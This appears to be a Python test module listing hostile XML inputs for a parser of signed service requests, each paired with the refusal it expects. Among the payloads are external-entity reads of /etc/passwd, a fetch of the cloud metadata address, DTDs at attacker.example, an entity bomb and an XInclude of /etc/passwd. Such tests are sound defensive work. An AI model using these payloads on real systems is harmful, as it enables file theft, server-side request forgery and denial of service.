"""Attacks on the parser, and on the difference between the octets and what is read of them."""

from rules.messages.refusals import MessageReason as M
from rules.service_requests.reasons import CheckReason as C
from tests.attacks.messages.making import (
    DECLARATION,
    DOCUMENT,
    TEXT,
    Attack,
    changed,
    signed,
)
from tests.rules.messages.builders import MESSAGE, ORIGINATOR, TARGET

_ROOT = "<sr:Request "
_LAUGHS = "<!ENTITY l0 'lol'>" + "".join(
    f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10)
)


def _before_root(text: str) -> bytes:
    return changed(_ROOT, f"{text}{_ROOT}")


def _in_place_of_srv(octets: bytes) -> bytes:
    return MESSAGE.replace(b">4.1.1<", b">" + octets + b"<")


DOCUMENT_TYPES: dict[str, Attack] = {
    name: (_before_root(f"<!DOCTYPE {declared}>"), M.DOCUMENT_TYPE)
    for name, declared in {
        "a document type": "r",
        "a document type of another system": 'r SYSTEM "http://attacker.example/r.dtd"',
        "a public document type": 'r PUBLIC "-//A//B" "http://attacker.example/r.dtd"',
        "an external entity": 'r [<!ENTITY x SYSTEM "file:///etc/passwd">]',
        "an external entity over the network": 'r [<!ENTITY x SYSTEM "http://169.254.169.254/">]',
        "an external parameter entity": 'r [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]',
        "an entity bomb": f"r [{_LAUGHS}]",
        "an entity of a megabyte": f'r [<!ENTITY x "{"x" * 100_000}">]',
        "an attribute by default": 'r [<!ATTLIST sr:Request schemaVersion CDATA "6.0">]',
        "an id by declaration": "r [<!ATTLIST sr:Body a ID #IMPLIED>]",
        "a namespace by default": 'r [<!ATTLIST sr:Header xmlns:sr CDATA "urn:x">]',
        "a notation": 'r [<!NOTATION n SYSTEM "x">]',
        "a document type with a bracket in a text": "r [<!ENTITY x ']>'>]",
    }.items()
} | {
    "a document type behind comments": (
        _before_root("<!-- > --><!----><!DOCTYPE r>"),
        M.DOCUMENT_TYPE,
    ),
    "a document type behind a byte order mark": (
        f"\ufeff<!DOCTYPE r>{DOCUMENT}".encode(),
        M.DOCUMENT_TYPE,
    ),
    "a document type in lower case": (_before_root("<!doctype r>"), M.NOT_WELL_FORMED),
    "a document type within the root": (
        changed("<sr:Body>", "<sr:Body><!DOCTYPE r>"),
        M.NOT_WELL_FORMED,
    ),
    "a document type that only a reader of UTF-16 sees": (
        f"<!DOCTYPE r>{DOCUMENT}".encode("utf-16-be"),
        M.ENCODING_NOT_UTF8,
    ),
    "a document type that only a reader of UTF-7 sees": (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4-' + DOCUMENT.encode(),
        M.ENCODING_NOT_UTF8,
    ),
    "an entity that nobody declares": (_in_place_of_srv(b"&x;"), M.NOT_WELL_FORMED),
}

INSTRUCTIONS: dict[str, Attack] = {
    "an instruction before the root": (_before_root("<?x?>"), M.PROCESSING_INSTRUCTION),
    "a style sheet before the root": (
        _before_root("<?xml-stylesheet href='http://attacker.example/'?>"),
        M.PROCESSING_INSTRUCTION,
    ),
    "an instruction behind a comment": (_before_root("<!-- --> <?x?>"), M.PROCESSING_INSTRUCTION),
    "an instruction in capitals": (
        _before_root("<?XML version='1.0'?>"),
        M.PROCESSING_INSTRUCTION,
    ),
    "a second declaration": (_before_root("<?xml version='1.0'?>"), M.NOT_WELL_FORMED),
    "an instruction after the root": (f"{TEXT}<?x?>".encode(), M.PROCESSING_INSTRUCTION),
    "an instruction in the header": (
        changed("<sr:Header>", "<sr:Header><?x?>"),
        M.PROCESSING_INSTRUCTION,
    ),
    "an instruction in a value": (_in_place_of_srv(b"4.1<?x?>.1"), M.PROCESSING_INSTRUCTION),
    "an instruction in SignedInfo": (
        changed("<ds:SignedInfo>", "<ds:SignedInfo><?x?>"),
        M.PROCESSING_INSTRUCTION,
    ),
    "an instruction in a digest": (
        changed("<ds:DigestValue>", "<ds:DigestValue><?x?>"),
        M.PROCESSING_INSTRUCTION,
    ),
    "an instruction that the victim signed": (
        signed(body="<sr:X><?x?></sr:X>"),
        M.PROCESSING_INSTRUCTION,
    ),
}

OCTETS: dict[str, Attack] = {
    **{
        f"bytes that are not UTF-8: {octets.hex()}": (_in_place_of_srv(octets), M.INVALID_UTF8)
        for octets in (
            b"4.1\xc0\xae1",  # an overlong full stop
            b"4.1\xe0\x80\xae1",
            b"4.1.1\xed\xa0\x80",  # half of a pair of UTF-16
            b"4.1.1\xed\xa0\x81\xed\xb0\x80",
            b"4.1.1\xf4\x90\x80\x80",  # beyond Unicode
            b"4.1.1\xff",
            b"4.1.1\xe2\x82",
        )
    },
    **{
        f"bytes that are not UTF-8 {where}": (octets, M.INVALID_UTF8)
        for where, octets in {
            "in a comment": MESSAGE.replace(b"<sr:Body>", b"<sr:Body><!-- \xff -->"),
            "in a comment before the root": MESSAGE.replace(
                b"<sr:Req", b"<!-- \xff --><sr:Req", 1
            ),
            "in an attribute": MESSAGE.replace(b'schemaVersion="', b'a="\xff" schemaVersion="'),
            "in a name": MESSAGE.replace(b"<sr:Body>", b"<sr:Body\xff>"),
            "in an issuer": MESSAGE.replace(b"CN=TESTOCA", b"CN=TESTOC\xc1\x81"),
            "after the root": MESSAGE + b"<!-- \xed\xa0\x80 -->",
        }.items()
    },
    "UTF-16": (TEXT.encode("utf-16"), M.ENCODING_NOT_UTF8),
    "UTF-16 without a mark": (TEXT.encode("utf-16-le"), M.ENCODING_NOT_UTF8),
    "UTF-32": (TEXT.encode("utf-32-be"), M.ENCODING_NOT_UTF8),
    "EBCDIC": (TEXT.encode("cp500"), M.INVALID_UTF8),
    "another encoding by declaration": (changed("UTF-8", "ISO-8859-1"), M.ENCODING_NOT_UTF8),
    "an encoding like UTF-8": (changed("UTF-8", "UTF-8859"), M.ENCODING_NOT_UTF8),
    "XML 1.1": (changed('version="1.0"', 'version="1.1"'), M.NOT_WELL_FORMED),
    "a declaration without a version": (
        TEXT.replace(DECLARATION, '<?xml encoding="UTF-8"?>').encode(),
        M.NOT_WELL_FORMED,
    ),
    "two byte order marks": (f"\ufeff\ufeff{TEXT}".encode(), M.NOT_WELL_FORMED),
    "a byte order mark after the declaration": (_before_root("\ufeff"), M.NOT_WELL_FORMED),
    "a zero octet": (_in_place_of_srv(b"4.1.1\x00"), M.NOT_WELL_FORMED),
    "a zero octet by reference": (_in_place_of_srv(b"4.1.1&#0;"), M.NOT_WELL_FORMED),
    "a control character": (_in_place_of_srv(b"4.1.1\x01"), M.NOT_WELL_FORMED),
    "half a pair of UTF-16 by reference": (_in_place_of_srv(b"4.1.1&#xD800;"), M.NOT_WELL_FORMED),
    "a character that is none": (_in_place_of_srv("4.1.1\uffff".encode()), M.NOT_WELL_FORMED),
    "50 MB": (MESSAGE.replace(b"<sr:Body>", b"<sr:Body>" + b"x" * 50_000_000), M.TOO_LARGE),
    "nothing": (b"", M.NOT_WELL_FORMED),
    "two documents": (TEXT.encode() + DOCUMENT.encode(), M.NOT_WELL_FORMED),
    "half a document": (TEXT.encode()[: len(TEXT) // 2], M.NOT_WELL_FORMED),
    "an attribute twice": (
        changed('schemaVersion="5.4"', 'schemaVersion="5.4" schemaVersion="5.4"'),
        M.NOT_WELL_FORMED,
    ),
    "one attribute by two prefixes": (
        changed("<sr:Body>", '<sr:Body xmlns:a="urn:x" xmlns:b="urn:x" a:c="" b:c="">'),
        M.NOT_WELL_FORMED,
    ),
    "a prefix that nobody declares": (changed("<sr:Body>", '<sr:Body x:a="">'), M.NOT_WELL_FORMED),
    "another meaning of the prefix xml": (
        changed("<sr:Body>", '<sr:Body xmlns:xml="urn:x">'),
        M.NOT_WELL_FORMED,
    ),
    "the prefix xmlns": (changed("<sr:Body>", '<sr:Body xmlns:xmlns="urn:x">'), M.NOT_WELL_FORMED),
    "a prefix for nothing": (changed("<sr:Body>", '<sr:Body xmlns:x="">'), M.NOT_WELL_FORMED),
    "nested deeper than is parsed": (b"<a>" * 300 + b"</a>" * 300, M.NOT_WELL_FORMED),
}

VALUES: dict[str, Attack] = {
    **{
        f"a Service Reference Variant with {name}": (
            signed(srv=srv),
            M.SERVICE_REFERENCE_MALFORMED,
        )
        for name, srv in {
            "a full-width digit": "4.1.\uff11",
            "an Arabic digit": "4.1.\u0661",
            "a space of no width": "4.1\u200b.1",
            "a space that does not break": "4.1.1\u00a0",
            "a line break of Unicode": "4.1.1\u2028",
            "a next line": "4.1.1\u0085",
            "a soft hyphen": "4.1\u00ad.1",
            "a turn of direction": "\u202e1.1.4",
            "a combining mark": "4.1.1\u0301",
            "a one dot leader": "4\u20241.1",
            "a referenced carriage return": "4.1.1&#13;",
            "a space": "4.1.1 ",
        }.items()
    },
    "an element in a value": (signed(srv="4.1<sr:b/>.1"), M.HEADER_MALFORMED),
    "a counter beyond 64 bits": (
        signed(request_id=f"{ORIGINATOR}:{TARGET}:{2**64}"),
        M.REQUEST_ID_MALFORMED,
    ),
    "a counter with a zero before it": (
        signed(request_id=f"{ORIGINATOR}:{TARGET}:01010"),
        M.REQUEST_ID_MALFORMED,
    ),
    "two RequestIDs in one": (
        signed(request_id=f"{ORIGINATOR}:{TARGET}:1 {ORIGINATOR}:{TARGET}:2"),
        M.REQUEST_ID_MALFORMED,
    ),
    "an originator that looks like the victim's": (
        signed(request_id=f"9\u041e-B3-D5-1F-30-01-00-00:{TARGET}:1"),
        M.REQUEST_ID_MALFORMED,
    ),
    "a comment inside the Service Reference Variant that hides a digit": (
        changed("4.1.1", "4.1.1<!-- -->1"),
        C.DIGEST_MISMATCH,
    ),
    "a CDATA section that adds to the Service Reference Variant": (
        changed("4.1.1", "4.1.1<![CDATA[1]]>"),
        C.DIGEST_MISMATCH,
    ),
    "a reference that adds to the Service Reference Variant": (
        changed("4.1.1", "4.1.1&#49;"),
        C.DIGEST_MISMATCH,
    ),
    "a line break changed": (
        TEXT.replace("\n  <sr:Body>", "\n\n  <sr:Body>").encode(),
        C.DIGEST_MISMATCH,
    ),
    "a referenced carriage return between elements": (
        changed("\n  <sr:Body>", "&#13;\n  <sr:Body>"),
        C.DIGEST_MISMATCH,
    ),
    "an included file": (
        changed(
            "<sr:ReadInstantaneousImportRegisters/>",
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        ),
        C.DIGEST_MISMATCH,
    ),
}

NAMESPACES: dict[str, Attack] = {
    f"{name}, and a warning in what is not signed": (
        changed("<sr:Header>", header).replace(b"<ds:KeyInfo>", b'<ds:KeyInfo xmlns="relative">'),
        M.NOT_WELL_FORMED,
    )
    for name, header in {
        "a prefix bound to nothing": '<sr:Header xmlns:q="">',
        "the prefix xml bound anew": '<sr:Header xmlns:xml="urn:x">',
        "the prefix xmlns bound": '<sr:Header xmlns:xmlns="urn:x">',
        "another prefix bound to the name of xml": (
            '<sr:Header xmlns:q="http://www.w3.org/XML/1998/namespace">'
        ),
        "an attribute twice by two prefixes": (
            '<sr:Header xmlns:q="urn:x" xmlns:p="urn:x" q:x="1" p:x="2">'
        ),
        "an element of a prefix that is not bound": "<sr:Header><q:x/>",
        "an attribute of a prefix that is not bound": '<sr:Header q:x="">',
        "a name with two colons": "<sr:Header><sr:q:x/>",
    }.items()
}

READING_ATTACKS = DOCUMENT_TYPES | INSTRUCTIONS | OCTETS | VALUES | NAMESPACES
